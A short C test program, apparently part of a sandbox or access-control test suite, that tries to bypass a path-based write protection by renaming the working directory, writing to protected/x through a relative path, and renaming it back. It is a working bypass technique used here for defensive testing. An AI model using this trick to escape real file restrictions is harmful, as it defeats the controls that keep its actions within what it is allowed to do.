/* Rename the working directory (an ancestor of protected/, itself writable), write through the
   new name, rename it back: the rule names a path, the directory kept its inode. */
#include "attack.h"
int main(void) {
  char cwd[4096], moved[4200];
  if (!getcwd(cwd, sizeof cwd)) result(0, "getcwd: %s", errname(errno));
  snprintf(moved, sizeof moved, "%s-moved", cwd);
  if (rename(cwd, moved) != 0) result(0, "rename of the cwd: %s", errname(errno));
  int fd = open("protected/x", O_WRONLY | O_CREAT, 0644); /* relative: the cwd followed the inode */
  int e = errno;
  if (fd >= 0) close(fd);
  if (rename(moved, cwd) != 0) printf("rename back: %s\n", errname(errno));
  if (fd >= 0) result(1, "created protected/x after renaming the cwd");
  result(0, "create after renaming the cwd: %s", errname(e));
}
